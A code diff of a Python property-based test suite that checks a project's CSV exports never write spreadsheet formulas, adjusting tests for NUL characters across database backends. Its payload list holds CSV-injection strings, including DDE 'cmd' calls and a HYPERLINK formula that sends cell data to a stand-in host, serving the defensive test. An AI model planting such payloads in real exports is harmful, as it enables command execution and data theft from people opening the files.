@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -10,6 +9,7 @@ from knooppunt.csv_safe import FORMULA_TRIGGERS, csv_bytes, is_formula, phone_ce
 from knooppunt.directory import csv_io
 from knooppunt.directory.validation import normalise_phone
 from knooppunt.services.outcomes.agreements import AgreementFilter
+from knooppunt.storage.mapping import storable
 
 PAYLOADS = [
     "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -48,7 +48,6 @@ def test_phone_numbers_stay_dialable_text_and_come_back_on_import():
 
 @_SETTINGS
 @given(who=_hostile, what=_hostile, child=_hostile, outcome=_hostile)
-@pytest.mark.postgres_todo(reason="PostgreSQL text cannot hold a NUL character, which SQLite stores; the services do not refuse it yet")
 def test_agreements_csv_never_writes_a_formula(demo_services, tmp_path, who, what, child, outcome):
     s = demo_services
     agreement = s.agreements.agreement(s.store.scalar("SELECT min(id) FROM agreement"))
@@ -60,12 +59,13 @@ def test_agreements_csv_never_writes_a_formula(demo_services, tmp_path, who, wha
     s.agreements.export_csv(AgreementFilter(bucket="alle"), path)
     cells = read_cells(path.read_bytes())
     assert_no_formula(cells)
-    assert any(("'" + what if safe_cell(what) != what else what) in row for row in cells)
+    # Stored (on either backend) and so exported without the characters no backend keeps alike (NUL, …).
+    kept = storable(what)
+    assert any(("'" + kept if safe_cell(kept) != kept else kept) in row for row in cells)
 
 
 @_SETTINGS
 @given(role=_hostile, organisation=_hostile, note=_hostile, phone=_hostile)
-@pytest.mark.postgres_todo(reason="PostgreSQL text cannot hold a NUL character, which SQLite stores; the services do not refuse it yet")
 def test_partners_csv_never_writes_a_formula(demo_services, tmp_path, role, organisation, note, phone):
     s = demo_services
     location = s.locations.locations()[0]
